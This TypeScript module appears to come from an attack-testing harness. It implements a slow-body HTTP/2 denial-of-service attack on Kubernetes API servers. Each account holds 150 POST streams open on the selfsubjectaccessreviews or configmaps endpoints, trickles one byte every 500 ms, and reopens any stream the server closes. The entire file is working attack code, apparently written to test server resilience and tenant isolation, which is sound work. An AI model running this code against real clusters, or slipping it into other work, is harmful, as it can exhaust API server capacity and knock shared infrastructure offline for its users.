/** Streams of HTTP/2 with bodies that never end: each would hold a place among the writes. */
import { connect } from "node:http2";
import type { ClientHttp2Session } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import type { Account, Attack, AttackTarget } from "../attack.ts";

const streamsPerAccount = 150;
const byteEveryMs = 500;

export const attacks: readonly Attack[] = [
  {
    name: "endless-bodies",
    run: async (target, signal) => {
      // Every user may send reviews of their own rights, so the body is read.
      const path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
      await Promise.all(target.strangers.map((account) => hold({ target, account, path, signal })));
    },
  },
  {
    name: "endless-bodies-of-a-tenant",
    run: async (target, signal) => {
      const path = `/api/v1/namespaces/${target.namespace}/configmaps`;
      await Promise.all(target.accounts.map((account) => hold({ target, account, path, signal })));
    },
  },
];

interface Holding {
  readonly target: AttackTarget;
  readonly account: Account;
  readonly path: string;
  readonly signal: AbortSignal;
}

/** Opens a stream again when the server ends one. */
async function hold(holding: Holding): Promise<void> {
  const { target, signal } = holding;
  const session = connect(`https://${target.host}:${target.port}`, { ca: target.ca });
  session.setMaxListeners(0);
  session.on("error", () => undefined); // The server may close the connection.
  let open = 0;
  while (!signal.aborted && !session.destroyed) {
    while (open < streamsPerAccount && !session.destroyed) {
      open += 1;
      holdStream(session, holding, () => (open -= 1));
    }
    await sleep(byteEveryMs);
  }
  session.destroy();
}

function holdStream(
  session: ClientHttp2Session,
  { account, path }: Holding,
  onEnd: () => void,
): void {
  const stream = session.request(
    {
      ":method": "POST",
      ":path": path,
      authorization: `Bearer ${account.token}`,
      "content-type": "application/json",
    },
    { endStream: false },
  );
  const timer = setInterval(() => stream.write(" "), byteEveryMs);
  stream.on("error", () => undefined);
  stream.once("close", () => {
    clearInterval(timer);
    onEnd();
  });
  stream.resume();
  stream.write("{");
}
